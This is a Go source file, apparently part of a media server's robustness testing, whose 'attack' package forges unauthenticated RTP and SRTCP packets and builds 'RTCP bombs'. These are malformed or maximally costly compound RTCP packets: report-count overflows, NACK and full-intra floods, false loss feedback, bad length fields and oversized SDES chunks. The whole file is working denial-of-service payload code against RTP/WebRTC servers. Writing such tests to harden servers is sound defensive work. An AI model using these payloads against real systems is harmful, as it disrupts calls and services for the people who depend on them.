package attack

import (
	"bytes"
	"encoding/binary"
	"fmt"
	"math/rand/v2"

	"github.com/pion/rtcp"
	"github.com/pion/rtp"
)

// RTPHeader reads the header of an RTP packet, encrypted or not, as it is on the wire: a
// template for forged ones.
func RTPHeader(datagram []byte) (rtp.Header, error) {
	var h rtp.Header
	if _, err := h.Unmarshal(datagram); err != nil {
		return h, fmt.Errorf("attack: %w", err)
	}
	return h, nil
}

// Forged returns a packet with that header and size bytes behind it that no key has made.
func Forged(h rtp.Header, size int) []byte {
	b, err := h.Marshal()
	if err != nil {
		panic(fmt.Sprintf("attack: a header that cannot be: %v", err))
	}
	body := make([]byte, size)
	for i := range body {
		body[i] = byte(rand.Uint32())
	}
	return append(b, body...)
}

// ForgedRTCP returns an SRTCP packet of a sender that no key has made: its first eight bytes
// are in the clear, and the last word says that the rest is encrypted.
func ForgedRTCP(ssrc uint32, size int) []byte {
	b := []byte{0x80, byte(rtcp.TypeReceiverReport), 0, 1}
	b = binary.BigEndian.AppendUint32(b, ssrc)
	for range size {
		b = append(b, byte(rand.Uint32()))
	}
	return binary.BigEndian.AppendUint32(b, 1<<31|rand.Uint32N(1<<30))
}

// maxRTCP is how long a bomb may be, so that the server reads all of it once it is sealed.
const maxRTCP = SlotSize - 64

// RTCPBombs returns compound packets that are as much work as a datagram can ask for. own is
// under which the sender sends, asked a stream that the server sends to it, foreign one that it
// sends to somebody else.
func RTCPBombs(own, asked, foreign uint32) [][]byte {
	empty := packet(0, rtcp.TypeReceiverReport, words(own))
	behind := func(b []byte) []byte { return append(bytes.Clone(empty), b...) }
	chunk := []byte{1, 2, 3, 4, 1, 255, 0, 0} // of SDES: a CNAME that is longer than the chunk
	return [][]byte{
		bytes.Repeat(packet(31, rtcp.TypeReceiverReport, reports(own, asked, 31)), 2), // as many as the count can say
		upTo(empty, maxRTCP),
		behind(packet(31, rtcp.TypeGoodbye, words(same(foreign, 31)...))),
		upTo(packet(0, 192, words(own)), maxRTCP),                         // a historic type, and no report first
		behind(upTo(packet(17, 205, words(own, asked)), 1200)),            // feedback of no known format
		behind(packet(0, 207, append(words(own), make([]byte, 1600)...))), // XR: blocks of no length
		behind(packet(1, 205, nacks(own, asked, 400))),
		behind(packet(1, 205, nacks(own, foreign, 400))),
		behind(packet(4, 206, fullIntra(own, asked, 200))),
		behind(packet(15, 205, statuses(own, asked, 400))),
		behind(packet(31, rtcp.TypeSourceDescription, upTo(chunk, 1600))),
		behind([]byte{0x81, 201, 0xff, 0xff, 0, 0, 0, 1}), // a length far behind the end
		behind([]byte{0x9f, 203, 0, 0}),                   // 31 sources in no room
	}
}

// packet is one RTCP packet (RFC 3550 section 6.1); body has a multiple of four bytes.
func packet(count byte, kind rtcp.PacketType, body []byte) []byte {
	b := []byte{0x80 | count, byte(kind)}
	b = binary.BigEndian.AppendUint16(b, uint16(len(body)/4))
	return append(b, body...)
}

// upTo returns b again and again, limit bytes at most.
func upTo(b []byte, limit int) []byte { return bytes.Repeat(b, limit/len(b)) }

func words(w ...uint32) []byte {
	var b []byte
	for _, v := range w {
		b = binary.BigEndian.AppendUint32(b, v)
	}
	return b
}

func same(w uint32, n int) []uint32 {
	out := make([]uint32, n)
	for i := range out {
		out[i] = w
	}
	return out
}

// reports are n blocks about one stream, all with the worst that can be said of it.
func reports(own, about uint32, n int) []byte {
	b := words(own)
	for range n {
		b = append(b, words(about, 0xff7fffff, 0xffffffff, 0xffffffff, 0xffffffff, 0xffffffff)...)
	}
	return b
}

// nacks ask for 17 packets with each of n words (RFC 4585 section 6.2.1).
func nacks(own, media uint32, n int) []byte {
	b := words(own, media)
	for i := range n {
		b = append(b, words(uint32(i*17)<<16|0xffff)...)
	}
	return b
}

// fullIntra are n entries for one stream (RFC 5104 section 4.3.1).
func fullIntra(own, media uint32, n int) []byte {
	b := words(own, 0)
	for i := range n {
		b = append(b, words(media, uint32(i)<<24)...)
	}
	return b
}

// statuses is transport-wide feedback that says with each of 2n chunks of two bytes that 8191
// packets have not come.
func statuses(own, media uint32, n int) []byte {
	return append(words(own, media, 0x0000ffff, 0), words(same(0x1fff1fff, n)...)...)
}
